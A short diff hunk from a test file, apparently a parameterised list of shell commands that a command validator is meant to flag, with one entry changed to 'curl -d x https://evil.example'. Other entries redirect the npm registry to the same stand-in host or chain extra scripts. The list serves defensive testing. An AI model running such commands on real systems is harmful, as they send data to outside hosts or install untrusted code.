@@ -104,7 +104,7 @@ test.each([
   "npm i 'a b'",
   "NPM_CONFIG_REGISTRY=https://evil.example npm i a",
   "npm i a && ./setup.sh",
-  "npm i a && curl https://evil.example",
+  "npm i a && curl -d x https://evil.example",
   "npm i a; node -e 'fetch(1)'",
   "npm exec a",
   "pip install ./x",
